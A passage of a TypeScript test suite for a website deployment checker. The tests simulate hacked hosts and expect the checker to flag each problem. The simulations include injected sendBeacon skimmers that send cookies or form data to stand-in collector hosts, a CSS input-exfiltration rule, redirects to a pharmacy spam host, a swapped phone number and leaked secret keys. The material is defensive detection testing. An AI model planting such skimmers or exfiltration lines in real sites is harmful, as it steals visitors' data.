  async function stopAfter(after: string, signal: NodeJS.Signals): Promise<string[]> {
    const child = spawn(process.execPath, ['--import', 'tsx', 'scripts/check-deployment/main.ts', site.siteUrl, ...defaultArgs()], {
      cwd: PROJECT_ROOT,
      env: { PATH: process.env.PATH ?? '', NODE_EXTRA_CA_CERTS: path.join(certificateFolder, 'cert.pem'), ...envFor(site.stack) },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    const lines: string[] = [];
    let stopped = false;
    child.stdout!.on('data', (chunk: Buffer) => {
      lines.push(...chunk.toString().split('\n').filter(Boolean));
      if (!stopped && lines.some((line) => line.startsWith(after))) stopped = child.kill(signal);
    });
    const code = await new Promise((resolve) => child.once('exit', resolve));
    // Killed outright, it says nothing more (its rows are the sweep's).
    if (signal === 'SIGKILL') return lines;
    // Not a pass, by its last line or its exit code (1, not 128 + the signal: `$? -ne 1`), whatever line came last.
    expect([code, lines.at(-1)], lines.join('\n')).toEqual([1, expect.stringMatching(new RegExp(`^NOT CHECKED: stopped by ${signal} after \\d+ checks, before every check ran, so the deployment is not known to work\\.$`))]);
    return lines.slice(0, -1);
  }

  it('removes its rows on Ctrl-C before it exits', async () => {
    const lines = await stopAfter('ok    test rows planted', 'SIGINT');

    expect(lines).toContain('SIGINT: removing the test rows before stopping');
    expect(lines.some((line) => line.startsWith('ok    test rows and photo removed: 5 rows')), lines.join('\n')).toBe(true);
    expect(await leftovers(site.stack)).toEqual([]);
  }, 300_000);

  it('on Ctrl-C between two checks starts no further one, so nothing comes back after the removal (the unsubscribe step next)', async () => {
    const lines = await stopAfter('ok    test lead queues its e-mails', 'SIGINT');

    // The step in flight when the signal came (the unsubscribe step) may end first; none starts after it.
    const afterSignal = lines.slice(lines.indexOf('SIGINT: removing the test rows before stopping') + 1);
    expect(afterSignal.slice(0, -1), lines.join('\n')).toEqual(afterSignal.length === 2 ? [expect.stringMatching(/^ok {4}e-mails' unsubscribe link works: /)] : []);
    expect(afterSignal.at(-1), lines.join('\n')).toMatch(/^ok {4}test rows and photo removed: 5 rows/);
    // The worker's link job, queued by a step started during the removal, would store its link after it.
    await new Promise((resolve) => setTimeout(resolve, 3_000));
    expect(await leftovers(site.stack)).toEqual([]);
  }, 300_000);

  it('removes its rows when its terminal closes (SIGHUP: a dropped ssh session) before it exits', async () => {
    const lines = await stopAfter('ok    test rows planted', 'SIGHUP');

    expect(lines).toContain('SIGHUP: removing the test rows before stopping');
    expect(lines.some((line) => line.startsWith('ok    test rows and photo removed: 5 rows')), lines.join('\n')).toBe(true);
    expect(await leftovers(site.stack)).toEqual([]);
  }, 300_000);

  it('killed outright, leaves rows that the processor removes once they are old, with their files', async () => {
    await stopAfter('ok    test photo stored and rendered', 'SIGKILL');
    const left = await leftovers(site.stack);
    // The unsubscribe step ran before the photo: the test address's unsubscribe and its link are left too.
    expect(left).toEqual([
      ...LEAD_TABLES.map((table) => `1 row(s) in ${table}`),
      '5 mark(s)',
      "the test address's unsubscribe",
      'the unsubscribe link',
      expect.stringMatching(/^\d+ stored file\(s\): /),
    ]);

    // The processor's sweep takes rows planted more than 15 minutes ago: make these that old.
    await sql(`update back_office.deployment_check_rows set planted_at = now() - interval '16 minutes'`);
    const lines: string[] = [];
    const pool = new pg.Pool({ connectionString: site.stack.superuserUrl, max: 1 });
    try {
      await deploymentCheckLeftoversSweep(createSupabaseVisitorFiles({ supabaseUrl: site.stack.url, serviceRoleKey: site.stack.serviceRoleKey }), (line) =>
        lines.push(line),
      ).run(pool);
    } finally {
      await pool.end();
    }
    expect(lines).toEqual([expect.stringMatching(/^deployment check: removed 5 test row\(s\) and \d+ file\(s\) a check left behind$/)]);
    expect(await leftovers(site.stack)).toEqual([]);
  }, 300_000);
  it("killed outright after its unsubscribe step while its planting had failed, leaves the test address's unsubscribe, which the processor removes once it is old", async () => {
    // Planting refused (a secret key without the grant, say): no marked row, but the unsubscribe step runs all the same.
    await sql('revoke execute on function public.deployment_check_plant_rows() from service_role');
    let lines: string[];
    try {
      lines = await stopAfter("ok    e-mails' unsubscribe link works", 'SIGKILL');
    } finally {
      await sql('grant execute on function public.deployment_check_plant_rows() to service_role');
    }
    expect(lines.some((line) => line.startsWith('FAIL  test rows planted')), lines.join('\n')).toBe(true);
    expect(await leftovers(site.stack)).toEqual(["the test address's unsubscribe", 'the unsubscribe link']);

    // A check still running would be minutes old; these are a killed one's once older than the sweep's 15 minutes.
    await sql(`update back_office.deployment_check_unsubscribe_links set made_at = now() - interval '16 minutes'`);
    await sql(`update back_office.email_unsubscribes set unsubscribed_at = now() - interval '16 minutes' where mailbox_digest = back_office.mailbox_digest('deployment-check@example.com')`);
    const swept: string[] = [];
    const pool = new pg.Pool({ connectionString: site.stack.superuserUrl, max: 1 });
    try {
      await deploymentCheckLeftoversSweep(createSupabaseVisitorFiles({ supabaseUrl: site.stack.url, serviceRoleKey: site.stack.serviceRoleKey }), (line) =>
        swept.push(line),
      ).run(pool);
    } finally {
      await pool.end();
    }
    expect(swept).toEqual(["deployment check: removed what a check's unsubscribe step left behind (the test address's unsubscribe, its link or its job)"]);
    expect(await leftovers(site.stack)).toEqual([]);
  }, 300_000);
});

describe('npm run check:deployment on a broken deployment', () => {
  it('fails a secret key in a served file that is neither a page, a script nor a source map: robots.txt, the not-found page, a file of the build', async () => {
    // A file public/ put in the build (the favicon), which no page loads as a script or stylesheet.
    const buildFile = fs.readdirSync(site.buildDir).find((name) => name.endsWith('.svg'))!;
    const host = await startHost(site.siteUrl, otherHostPort, async (asked, upstream) => {
      const reply = await upstream();
      if (asked.path === '/robots.txt') return { ...reply, body: `${reply.body}\n# deploy: ${site.stack.serviceRoleKey}\n` };
      if (asked.path === `/${buildFile}`) return { ...reply, body: `${reply.body}\n<!-- sb_secret_AbCdEf0123456789 -->` };
      if (reply.status === 404) return { ...reply, body: `${reply.body}\n<pre>SUPABASE_SERVICE_ROLE_KEY=${site.stack.serviceRoleKey}</pre>` };
      return reply;
    });
    try {
      const { failed, lines } = await checkDeployment(envFor(site.stack), undefined, host.url);

      expect(failed, lines.join('\n')).toEqual([
        `FAIL  site publishes no secret key: /robots.txt holds the secret key SUPABASE_SERVICE_ROLE_KEY${site.stack.serviceRoleKey.startsWith('eyJ') ? ', a JWT key for the role service_role' : ''}; its not-found page holds the secret key SUPABASE_SERVICE_ROLE_KEY${site.stack.serviceRoleKey.startsWith('eyJ') ? ', a JWT key for the role service_role' : ''}; /${buildFile} holds an sb_secret_… key: anyone can read every row with it. Rotate the key in the Supabase dashboard now, redeploy the services, and rebuild the site without it in any VITE_ setting or source file`,
      ]);
    } finally {
      await host.close();
    }
    expect(await leftovers(site.stack)).toEqual([]);
  }, 300_000);

  it("fails a host that answers as browsers see it, not as a bare request does: a history-API fallback for unknown pages (by Accept), a page served as text/plain, a .env served as text/html", async () => {
    const host = await startHost(site.siteUrl, otherHostPort, async (asked, upstream) => {
      // webpack's, connect-history-api-fallback's and `serve -s`'s rule: only a request that accepts HTML gets the app.
      if (asked.path.startsWith('/no-such-page-') && String(asked.headers.accept ?? '').includes('text/html')) return upstream('/');
      if (asked.path === '/terms') {
        const page = await upstream();
        return { ...page, headers: { ...page.headers, 'content-type': 'text/plain; charset=utf-8' } };
      }
      // nginx's default_type text/html for a file it has no type for.
      if (asked.path === '/.env') return { status: 200, headers: { 'content-type': 'text/html' }, body: `SUPABASE_SERVICE_ROLE_KEY=${site.stack.serviceRoleKey}\n` };
      return upstream();
    });
    try {
      const { failed, lines } = await checkDeployment(envFor(site.stack), undefined, host.url);

      expect(failed, lines.join('\n')).toEqual([
        expect.stringMatching(/^FAIL {2}page \/terms: 200, ".+", but it is served as "text\/plain; charset=utf-8", not text\/html: browsers show the page's HTML source instead of the page; /),
        expect.stringMatching(/^FAIL {2}site hands out no file of the build machine: it serves \/\.env \(\d+ bytes, holding the secret key SUPABASE_SERVICE_ROLE_KEY/),
        'FAIL  unknown path: status 200, expected 404 (a single-page-app fallback answers every path with 200)',
      ]);
    } finally {
      await host.close();
    }
    expect(await leftovers(site.stack)).toEqual([]);
  }, 300_000);

  it("fails a page that runs a script the build does not have, and pages that phones (Android's, iPhones', Instagram's browser) or returning visitors get otherwise than the check's first request, and Cloudflare's Zaraz (red-team, sessions 23 and 24)", async () => {
    const host = await startHost(site.siteUrl, otherHostPort, async (asked, upstream) => {
      const page = await upstream();
      // A tag manager pasted into the host's snippet injection, on one page for everyone.
      // With its <noscript> frame, which tells Google of the visit without the script (session 24).
      if (asked.path === '/realtors') {
        return {
          ...page,
          body: page.body
            .replace('</head>', '<script async src="https://www.googletagmanager.com/gtm.js?id=GTM-TEST1"></script></head>')
            .replace(/<body([^>]*)>/, '<body$1><noscript><iframe src="https://www.googletagmanager.com/ns.html?id=GTM-TEST1" height="0" width="0"></iframe></noscript>'),
        };
      }
      // Cloudflare's tag manager Zaraz, started from its own /cdn-cgi/ path as Cloudflare adds it (session 24).
      if (asked.path === '/terms') {
        return { ...page, body: page.body.replace('</head>', "<script>(function(w,d){w.zaraz={};var s=d.createElement('script');s.src='/cdn-cgi/zaraz/s.js?z='+btoa('{}');d.head.appendChild(s)})(window,document)</script></head>") };
      }
      // A collector given to phones only: Android's, then iPhones' Safari (no client hints), then Instagram's
      // browser, each keyed on its user agent alone (session 24: the check asked as Android only).
      const agent = String(asked.headers['user-agent']);
      if (asked.path === '/investors' && /Android/.test(agent)) {
        return { ...page, body: page.body.replace('</body>', "<script>navigator.sendBeacon('https://collector.test/', document.cookie)</script></body>") };
      }
      if (asked.path === '/floor-visualizer' && /iPhone.*Version\/[\d.]+ Mobile\/\S+ Safari\//.test(agent)) {
        return { ...page, body: page.body.replace('</head>', '<script src="https://ios-collector.test/t.js"></script></head>') };
      }
      if (asked.path === '/privacy' && /Instagram/.test(agent)) {
        return { ...page, body: page.body.replace('</head>', '<script src="https://in-app.test/t.js"></script></head>') };
      }
      // An earlier build given to whoever comes back with the cookie the first answer set.
      if (asked.path === '/') {
        const returning = String(asked.headers.cookie ?? '').includes('seen=1');
        return {
          ...page,
          headers: { ...page.headers, 'set-cookie': 'seen=1; Path=/; HttpOnly' },
          body: returning ? page.body.replace(/data-entry="[^"]*"/g, 'data-entry="/assets/index-0ldBu1ld.js"') : page.body,
        };
      }
      return page;
    });
    try {
      const { failed, lines } = await checkDeployment(envFor(site.stack), undefined, host.url);

      expect(failed, lines.join('\n')).toEqual([
        expect.stringMatching(
          /^FAIL {2}pages run only the build's scripts, on a phone and on a second visit too: \/ on a second visit \(with the cookies the pages set\): \/assets\/index-0ldBu1ld\.js where the first answer names \/assets\/index-\S+\.js \(another build\); \/realtors runs the script https:\/\/www\.googletagmanager\.com\/gtm\.js\?id=GTM-TEST1, which the build does not have; \/realtors has a frame of https:\/\/www\.googletagmanager\.com\/ns\.html\?id=GTM-TEST1, which the build does not have; \/investors on a phone: an inline script "navigator\.sendBeacon\('https:\/\/collector\.test\/', document\.coo…", which the first answer does not run; \/floor-visualizer on an iPhone: the script https:\/\/ios-collector\.test\/t\.js, which the first answer does not run; \/privacy in Instagram's browser on an iPhone: the script https:\/\/in-app\.test\/t\.js, which the first answer does not run; \/terms runs an inline script "\(function\(w,d\)\{w\.zaraz=\{\};var s=d\.createElement\('script'\);s\.…", which the build does not have: a script the build does not have reads every form/,
        ),
      ]);
    } finally {
      await host.close();
    }
    expect(await leftovers(site.stack)).toEqual([]);
  }, 300_000);

  it("fails a script served under the build's own hashed name with code added, which names alone do not show (red-team, session 24)", async () => {
    const host = await startHost(site.siteUrl, otherHostPort, async (asked, upstream) => {
      const reply = await upstream();
      // A hacked host (or a CDN that rewrites scripts) appends a collector to the entry, under its own name.
      return /^\/assets\/index-[^/]+\.js$/.test(asked.path) && reply.status === 200
        ? { ...reply, body: `${reply.body}\n;addEventListener('submit',e=>navigator.sendBeacon('https://collector.test/',new FormData(e.target)),true);` }
        : reply;
    });
    try {
      const { failed, lines } = await checkDeployment(envFor(site.stack), undefined, host.url);

      expect(failed, lines.join('\n')).toEqual([
        expect.stringMatching(
          new RegExp(`^FAIL {2}site is the build in ${site.buildDir}: the pages name ${site.buildDir}/'s files, but the host serves (?:one|\\d+) of them otherwise: /assets/index-\\S+\\.js \\(\\d+ bytes served, \\d+ in ${site.buildDir}/; from character \\d+ it serves " ?;addEventListener\\('submit',e=>navigator\\.sendBeacon\\('https:/…"\\): code changed after the build`),
        ),
      ]);
    } finally {
      await host.close();
    }
    expect(await leftovers(site.stack)).toEqual([]);
  }, 300_000);

  it("fails a build folder downloaded from a host that changed a script, which made the build lines compare the host with itself (red-team, session 29)", async () => {
    const collector = "\n;addEventListener('submit',e=>navigator.sendBeacon('https://collector.test/',new FormData(e.target)),true);";
    const host = await startHost(site.siteUrl, otherHostPort, async (asked, upstream) => {
      const reply = await upstream();
      return /^\/assets\/index-[^/]+\.js$/.test(asked.path) && reply.status === 200 ? { ...reply, body: `${reply.body}${collector}` } : reply;
    });
    // What an operator gets who mirrors the live site "to be sure it is what was uploaded": the host's bytes.
    const mirror = fs.mkdtempSync(path.join(os.tmpdir(), 'check-deployment-mirror-'));
    fs.cpSync(site.buildDir, mirror, { recursive: true });
    const { entry } = JSON.parse(fs.readFileSync(path.join(mirror, 'build-stamp.json'), 'utf8')) as { entry: string };
    fs.appendFileSync(path.join(mirror, entry), collector);
    try {
      const { failed, lines } = await checkDeployment(envFor(site.stack), ['--client-addresses', '127.0.0.2,127.0.0.3', '--build-dir', mirror], host.url);

      // Every line that compares the host with the folder passes (it is the host's copy); the folder's own line does not.
      expect(failed, lines.join('\n')).toEqual([
        expect.stringMatching(
          new RegExp(`^FAIL {2}build folder ${mirror} is what its commit builds: ${mirror}/ is not the build of [0-9a-f]{12}\\S* .*with the \\d+ settings its stamp names: ${entry.slice(1).replace(/[.*+?^${}()|[\]\\]/g, '\\$&')} differs \\(.*\\): a folder downloaded from the host, or changed after the build, makes the lines below compare the host with itself`),
        ),
      ]);
    } finally {
      await host.close();
      fs.rmSync(mirror, { recursive: true, force: true });
    }
    expect(await leftovers(site.stack)).toEqual([]);
  }, 300_000);

  it("asks the site's other name of a real server: fails a bare domain that serves an earlier build or redirects to another site, and passes one that redirects to www. (session 29; session 28 judged the answers only)", async () => {
    // A www. site and its bare domain on one server here, told apart by the Host header as a host's virtual servers
    // are; the names resolve to 127.0.0.1 inside the check's process only (tests/support/resolve-test-names.mjs).
    const port = await findFreePort();
    const [www, bare] = [`www.haddon-floorworks.test:${port}`, `haddon-floorworks.test:${port}`];
    let bareAnswer: (upstream: (path?: string) => Promise<TargetAnswer>) => Promise<Answer> = (upstream) => upstream();
    const host = await startHost(site.siteUrl, port, async (asked, upstream) => (asked.headers.host === bare ? bareAnswer(upstream) : upstream()));
    const env = {
      ...envFor(site.stack),
      NODE_OPTIONS: `--import=${path.join(PROJECT_ROOT, 'tests', 'support', 'resolve-test-names.mjs')}`,
      TEST_HOST_ADDRESSES: 'www.haddon-floorworks.test=127.0.0.1,haddon-floorworks.test=127.0.0.1',
    };
    const otherNameLine = async () => {
      const { lines } = await checkDeployment(env, defaultArgs(), `http://${www}`);
      return lines.find((line) => line.includes("site's other name serves no other site")) ?? lines.join('\n');
    };
    try {
      // The bare domain left on the old host: the previous build's pages, its own entry.
      bareAnswer = async (upstream) => {
        const reply = await upstream();
        return { ...reply, body: reply.body.replaceAll('/assets/index-', '/assets/index-0ld') };
      };
      expect(await otherNameLine()).toMatch(
        new RegExp(`^FAIL {2}site's other name serves no other site: http://${bare.replace(/\./g, '\\.')}/ serves a page of another build \\(/assets/index-0ld\\S+\\.js, where http://${www.replace(/\./g, '\\.')} starts /assets/index-\\S+\\.js\\): visitors who type the name without www\\. get it`),
      );
      bareAnswer = async () => ({ status: 301, headers: { location: 'https://old-floors.test/' }, body: '' });
      expect(await otherNameLine()).toBe(
        `FAIL  site's other name serves no other site: http://${bare}/ redirects to https://old-floors.test/, not to http://${www}: visitors who type the name without www. land elsewhere; redirect it to http://${www}`,
      );
      bareAnswer = async () => ({ status: 308, headers: { location: `http://${www}/` }, body: '' });
      expect(await otherNameLine()).toBe(`ok    site's other name serves no other site: http://${bare}/ redirects to http://${www}`);
    } finally {
      await host.close();
    }
    expect(await leftovers(site.stack)).toEqual([]);
  }, 900_000);

  it("fails a host that changes a script or stylesheet only as a browser loads it (an iPhone's Safari, a page's own load), pages that visitors from a search or an advert get otherwise, headers that send visitors elsewhere or load another site's stylesheet, a page redirected to another host, and a phone number swapped (red-team, session 28)", async () => {
    const host = await startHost(site.siteUrl, otherHostPort, async (asked, upstream) => {
      const reply = await upstream();
      const agent = String(asked.headers['user-agent']);
      const dest = asked.headers['sec-fetch-dest'];
      // An edge rule that adds a collector to the entry for iPhones' Safari only, and only to a page's own load of it.
      if (/^\/assets\/index-[^/]+\.js$/.test(asked.path) && reply.status === 200 && dest === 'script' && /iPhone.*Version\/[\d.]+ Mobile\/\S+ Safari\//.test(agent)) {
        return { ...reply, body: `${reply.body}\n;addEventListener('submit',e=>navigator.sendBeacon('https://collector.test/',new FormData(e.target)),true);` };
      }
      // A stylesheet that reads what Android phones type (a background per value), given only to a stylesheet load.
      if (/^\/assets\/[^/]+\.css$/.test(asked.path) && reply.status === 200 && dest === 'style' && /Android/.test(agent)) {
        return { ...reply, body: `${reply.body}\ninput[value^="a"]{background:url(https://collector.test/a)}` };
      }
      // The hacked site's conditional redirect: only visitors from a search engine go elsewhere.
      if (asked.path.split('?')[0] === '/realtors' && String(asked.headers.referer ?? '').startsWith('https://www.google.')) {
        return { status: 302, headers: { location: 'https://pharmacy.test/' }, body: '' };
      }
      // A hacked host that swaps the business's phone number for its own (call forwarding), for everyone.
      if (asked.path.split('?')[0] === '/realtors' && reply.status === 200) {
        return { ...reply, body: reply.body.replaceAll('8565550142', '6095550199').replaceAll('(856) 555-0142', '(609) 555-0199') };
      }
      // A CDN that sends an advert's ?fbclid= on to the origin, which still serves an earlier build.
      if (asked.path.startsWith('/investors?') && asked.path.includes('fbclid=')) {
        return { ...reply, body: reply.body.replace(/data-entry="[^"]*"/g, 'data-entry="/assets/index-0ldBu1ld.js"') };
      }
      // What headers do that no HTML shows: a Refresh away from the page, another site's stylesheet by a Link header.
      if (asked.path.split('?')[0] === '/privacy') return { ...reply, headers: { ...reply.headers, link: '<https://collector.test/p.css>; rel=stylesheet' } };
      if (asked.path.split('?')[0] === '/terms') return { ...reply, headers: { ...reply.headers, refresh: '5; url=https://pharmacy.test/' } };
      // A page the host sends to another host: the line says where, not only the status.
      if (asked.path === '/sitemap') return { status: 301, headers: { location: 'https://www.floors.test/sitemap' }, body: '' };
      return reply;
    });
    try {
      const { failed, lines } = await checkDeployment(envFor(site.stack), undefined, host.url);

      expect(failed, lines.join('\n')).toEqual([
        "FAIL  page /sitemap: status 301, a redirect to https://www.floors.test/sitemap: if that is the live site (the bare domain sending visitors to www., say), run the check against https://www.floors.test; otherwise the host sends this page's visitors to another site",
        expect.stringMatching(
          new RegExp(
            `^FAIL {2}site is the build in ${site.buildDir}: the pages name ${site.buildDir}/'s files, but the host serves 2 of them otherwise: (?=.*/assets/index-\\S+\\.js to an iPhone's Safari \\(\\d+ bytes served, \\d+ in ${site.buildDir}/; from character \\d+ it serves " ?;addEventListener\\('submit')(?=.*/assets/\\S+\\.css to Android's Chrome \\(\\d+ bytes served, \\d+ in ${site.buildDir}/; from character \\d+ it serves " ?input\\[value\\^="a"\\]\\{background:url\\(https://collector\\.test/a\\)\\}"\\)).*: code changed after the build`,
          ),
        ),
        expect.stringMatching(
          /^FAIL {2}pages run only the build's scripts, on a phone and on a second visit too: \/realtors gives the phone number \S*6095550199 \(a tel: link\), which the build does not have; \/realtors from a Google search \(with an ad click id\): status 302 to https:\/\/pharmacy\.test\/; \/investors from an Instagram advert, in Instagram's browser: \/assets\/index-0ldBu1ld\.js where the first answer names \/assets\/index-\S+\.js \(another build\); \/privacy comes with a Link header's stylesheet of https:\/\/collector\.test\/p\.css, which no build sends; \/terms comes with a Refresh header "5; url=https:\/\/pharmacy\.test\/", which no build sends: /,
        ),
      ]);
    } finally {
      await host.close();
    }
    expect(await leftovers(site.stack)).toEqual([]);
  }, 300_000);

  it("fails a host that drops HSTS and the content security policy for phones only, which the lines judging the first answer did not see (red-team, session 28)", async () => {
    const certificate = { key: fs.readFileSync(path.join(certificateFolder, 'key.pem')), cert: fs.readFileSync(path.join(certificateFolder, 'cert.pem')) };
    const host = await startHost(site.siteUrl, otherHttpsPort, async (asked, upstream) => {
      const reply = await upstream();
      // A mobile configuration at the CDN that does not carry the site's security headers.
      if (asked.path === '/investors' && /Android/.test(String(asked.headers['user-agent']))) return reply;
      return { ...reply, headers: { ...reply.headers, 'strict-transport-security': HSTS, 'content-security-policy': RECOMMENDED_CSP } };
    }, certificate);
    try {
      const { failed, lines } = await checkDeployment(envFor(site.stack), undefined, host.url);

      expect(failed, lines.join('\n')).toEqual([
        expect.stringMatching(/^FAIL {2}pages run only the build's scripts, on a phone and on a second visit too: \/investors on a phone: no strict-transport-security and no content-security-policy header, which the first answer has: /),
      ]);
    } finally {
      await host.close();
    }
    expect(await leftovers(site.stack)).toEqual([]);
  }, 300_000);

  it("fails a host that sends HSTS, and says not checked for one that sends the content security policy, with the home page only (nginx's add_header in one location block)", async () => {
    const certificate = { key: fs.readFileSync(path.join(certificateFolder, 'key.pem')), cert: fs.readFileSync(path.join(certificateFolder, 'cert.pem')) };
    const host = await startHost(site.siteUrl, otherHttpsPort, async (asked, upstream) => {
      const reply = await upstream();
      // As nginx's `location = /` matches: the path, whatever query an advert's link adds.
      return asked.path.split('?')[0] === '/' ? { ...reply, headers: { ...reply.headers, 'strict-transport-security': HSTS, 'content-security-policy': RECOMMENDED_CSP } } : reply;
    }, certificate);
    try {
      const { code, failed, lines } = await checkDeployment(envFor(site.stack), undefined, host.url);

      const others = DEPLOYED_PAGES.filter((page) => page !== '/').join(', ');
      const why = "(fine on /: a host rule for some pages only, such as nginx's add_header in one location block, which replaces the server block's)";
      expect(code).toBe(1);
      expect(failed, lines.join('\n')).toEqual([
        `FAIL  site served over https with HSTS: on ${others}: no Strict-Transport-Security header: a network on the way can serve a plain-http copy; turn on HSTS at the host (max-age of a year) ${why}`,
      ]);
      expect(lines.filter((line) => line.startsWith('skip')), lines.join('\n')).toEqual([
        `skip  pages send a content security policy: on ${others}: none sent: another site may show these pages in a frame of its own (clickjacking on the forms); send decision 033's header (README, "Site"): Content-Security-Policy: ${RECOMMENDED_CSP} ${why}`,
      ]);
    } finally {
      await host.close();
    }
    expect(await leftovers(site.stack)).toEqual([]);
  }, 300_000);

  it('fails on a host that serves another page for a path, a page of an earlier build, a page kept for a year, a staging host\'s noindex and robots.txt, a cut-off page, and scripts built for another project that hold the secret key (in a source map too)', async () => {
    const entry = /data-entry="(\/assets\/[^"]+\.js)"/;
    const host = await startHost(site.siteUrl, otherHostPort, async (asked, upstream) => {
      // A page's rules by its path, as a host's are, whatever query an advert's link adds (the check asks with one too).
      const pagePath = asked.path.split('?')[0];
      if (pagePath === '/realtors') return upstream(asked.path.replace('/realtors', '/'));
      // A home page from a build made without the owner's settings (the rest of the site is the owner's).
      if (pagePath === '/') {
        const page = await upstream();
        // And built for another address than the one checked (a staging copy's pages say the live site's).
        const body = page.body.replaceAll(OWNER_SETTINGS.VITE_BUSINESS_PHONE, '(856) 555-0100').replaceAll(OWNER_SETTINGS.VITE_BUSINESS_NJ_HIC_REGISTRATION, '13VH00000000');
        return { ...page, body: body.replace(/(<link rel="canonical" href=")[^"]*"/, '$1https://www.haddon-floorworks.example/"') };
      }
      if (pagePath === '/privacy') {
        const page = await upstream();
        return { ...page, body: page.body.replace(entry, 'data-entry="/assets/index-0ldBu1ld.js"') };
      }
      if (pagePath === '/terms') return { ...(await upstream()), cutOffAfter: 2_000 };
      // A host told to keep everything for a year (nginx's `expires max;` for the whole site).
      if (pagePath === '/investors') {
        const page = await upstream();
        return { ...page, headers: { ...page.headers, 'cache-control': 'public, max-age=31536000, immutable' } };
      }
      // A staging host's settings carried over: a header keeping a page out of search engines, a robots.txt keeping all out.
      if (pagePath === '/floor-visualizer') {
        const page = await upstream();
        return { ...page, headers: { ...page.headers, 'x-robots-tag': 'noindex' } };
      }
      if (asked.path === '/robots.txt') return { status: 200, headers: { 'content-type': 'text/plain' }, body: 'User-agent: *\nDisallow: /\n' };
      // The site rebuilt from another commit while the processor was not redeployed (its stamp; its pages stand in).
      if (asked.path === '/build-stamp.json') {
        const stamp = await upstream();
        return { ...stamp, body: JSON.stringify({ ...(JSON.parse(stamp.body) as object), commit: 'a'.repeat(40) }) };
      }
      // The build machine's .env put in public/ (Vite copies it into dist/): the host serves it as a file.
      if (asked.path === '/.env') return { status: 200, headers: { 'content-type': 'application/octet-stream' }, body: `SUPABASE_SERVICE_ROLE_KEY=${site.stack.serviceRoleKey}\nSMTP_PASSWORD=hunter2\n` };
      // A secret key in a source file of the build: the script's map carries the file.
      if (asked.path.endsWith('.js.map') && asked.path.includes('insert-with-fallback')) {
        const map = await upstream();
        return { ...map, body: map.body.replace('"sourcesContent":["', '"sourcesContent":["// sb_secret_AbCdEf0123456789 \\n') };
      }
      if (asked.path.endsWith('.js')) {
        const script = await upstream();
        // And a webhook under the processor's address (a staging path): it holds the one checked, but is not it.
        const body = script.body
          .replaceAll(site.stack.anonKey, 'sb_publishable_anotherProjectsKey0000')
          .replaceAll(`VITE_VISUALIZER_WEBHOOK_URL:\`${site.stack.webhookUrl}\``, `VITE_VISUALIZER_WEBHOOK_URL:\`${site.stack.webhookUrl}/staging\``);
        return { ...script, body: asked.path.includes('insert-with-fallback') ? `${body}\n;globalThis.k=${JSON.stringify(site.stack.serviceRoleKey)};` : body };
      }
      return upstream();
    });
    try {
      const { code, failed, lines } = await checkDeployment(envFor(site.stack), undefined, host.url);

      expect(failed, lines.join('\n')).toEqual([
        'FAIL  page /realtors: 200, but its heading is "Expert Floors. Neighborly Service.", not this page\'s "Refer Your Clients. Close Faster. Earn Rewards." (another site, or another page served for this path?)',
        'FAIL  page /investors: 200, "Better Floors. Better Margins. Faster Flips.", but it may be kept for ever without asking the host (cache-control: public, max-age=31536000, immutable): after the next deploy, visitors would keep this build; serve pages with no-cache or a max-age of at most 3600 s (only /assets/ may be kept long)',
        'FAIL  page /floor-visualizer: 200, "Snap & See Wood", but it tells search engines not to list it (x-robots-tag: noindex): a staging setting left on the live site; remove it from the host\'s headers or the build',
        expect.stringMatching(
          /^FAIL {2}page \/privacy: 200, "Privacy Policy", but its script \/assets\/index-0ldBu1ld\.js answers 200 \(text\/html\): a page cached from an earlier build, or the build's assets not all uploaded$/,
        ),
        expect.stringMatching(/^FAIL {2}page \/terms: /),
        expect.stringMatching(
          new RegExp(`^FAIL {2}site is the build in ${site.buildDir}: its pages come from 2 builds: / /realtors /investors /floor-visualizer /sitemap start /assets/index-\\S+\\.js; /privacy start /assets/index-0ldBu1ld\\.js: the host or a CDN still serves an earlier build for some pages`),
        ),
        // The placeholder phone on the home page is a number no page of the build gives (session 28).
        expect.stringMatching(/^FAIL {2}pages run only the build's scripts, on a phone and on a second visit too: \/ gives the phone number \(856\) 555-0100, which the build does not have: /),
        "FAIL  pages show the business's own facts: they show the build's placeholder VITE_BUSINESS_PHONE (856) 555-0100, VITE_BUSINESS_NJ_HIC_REGISTRATION 13VH00000000: the site was built without the owner's business settings (README, \"Settings\"); visitors would call, write to or look up a business that is not there",
        "FAIL  pages say they live at this address: the pages' own addresses (their canonical links, the build's VITE_SITE_URL) are not on 127.0.0.1: / names https://www.haddon-floorworks.example: either this check runs against a copy that is not the live site (a staging or preview address, where it passes on what visitors never see: run it against the live address), or the site was built without its address (VITE_SITE_URL's default sends search engines and shared links to http://127.0.0.1:5173: build with VITE_SITE_URL=" + host.url + " and upload dist/)",
        expect.stringMatching(
          /^FAIL {2}site built for this deployment: its \d+ scripts do not use SUPABASE_ANON_KEY \(they hold sb_publishable_anotherProjectsKey0000\), VITE_VISUALIZER_WEBHOOK_URL \(they hold http:\/\/127\.0\.0\.1:\d+\/functions\/v1\/floor-visualizer\/staging\) as set here: the site was built with other VITE_ settings/,
        ),
        expect.stringMatching(
          /^FAIL {2}site publishes no secret key: its pages, scripts or source maps hold the secret key SUPABASE_SERVICE_ROLE_KEY, a JWT key for the role service_role, an sb_secret_… key: /,
        ),
        expect.stringMatching(
          /^FAIL {2}site hands out no file of the build machine: it serves \/\.env \(\d+ bytes, holding the secret key SUPABASE_SERVICE_ROLE_KEY, a JWT key for the role service_role\): files of the machine that built it, public to anyone; /,
        ),
        'FAIL  robots.txt lets search engines in: it disallows / to every crawler (User-agent: * Disallow: /): a staging robots.txt on the live site; search engines drop the whole site',
        `FAIL  site and processor built from one commit: the site is built from aaaaaaaaaaaa and the processor from ${checkoutCommit()}: one of them is a stale deploy, and they disagree on what a render holds; build both from one commit and deploy both`,
        // The e-mail worker runs this checkout too: not the commit the site's stamp says.
        "FAIL  every e-mail worker instance runs with the settings checked: the e-mail worker is built from another commit than the site (aaaaaaaaaaaa): one of them is a stale deploy, and the e-mails' links and words may not fit the site's pages; build both from one commit and deploy both",
      ]);
      // A commit this checkout does not know: the check may be older than the deployment, so it says it is not checked.
      expect(lines.filter((line) => line.startsWith('skip  deployment is the version of this checkout'))).toEqual([
        expect.stringMatching(/^skip {2}deployment is the version of this checkout: this checkout \([0-9a-f]{12}\) does not know the deployed commit aaaaaaaaaaaa: the check may be older than the deployment/),
      ]);
      expect(lines.at(-1)).toMatch(/^FAIL: 15 of \d+ checks failed \(.+\), and 4 could not run from here \(.+\)\.$/);
      expect(code).toBe(1);
    } finally {
      await host.close();
    }
    expect(await leftovers(site.stack)).toEqual([]);
  }, 300_000);

